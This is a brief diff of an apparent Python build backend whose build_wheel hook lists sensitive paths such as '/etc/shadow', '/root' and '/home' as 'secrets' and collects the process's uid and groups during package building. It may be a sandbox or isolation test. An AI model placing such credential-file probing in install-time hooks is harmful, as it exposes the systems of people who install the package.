@@ -342,7 +342,7 @@ def writable(path):
 
 def build_wheel(directory, config_settings=None, metadata_directory=None):
     time.sleep(float(os.environ.get("PIP_SLEEP", "0")))
-    secrets = ["/etc/shadow", "/opt/hello/generations", "/opt/other", "/var/lib/gunicorn", "/root", "/home"]
+    secrets = ["/etc/shadow", "/opt/hello/releases", "/opt/other", "/var/lib/gunicorn", "/root", "/home"]
     facts = {
         "uid": os.getuid(),
         "groups": os.getgroups(),
